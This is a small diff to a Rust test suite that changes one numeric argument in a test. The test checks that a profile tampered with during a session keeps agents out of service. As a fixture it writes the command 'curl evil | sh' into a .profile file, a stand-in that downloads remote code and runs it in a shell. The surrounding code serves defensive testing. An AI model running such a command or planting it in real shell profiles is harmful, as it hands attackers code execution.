@@ -53,7 +53,7 @@ async fn the_next_agent_compares_it_with_what_the_session_started_from() {
 #[tokio::test]
 async fn a_profile_that_was_changed_meanwhile_keeps_everybody_out() {
     let hub = Hub::start().await;
-    let (mut station, profile) = died_with_a_session(&hub, 61_048).await;
+    let (mut station, profile) = died_with_a_session(&hub, 61_015).await;
     fs::write(profile.join(".profile"), "curl evil | sh").unwrap();
     station.start("");
     let left = OutOfService::Leftovers { count: 1 };
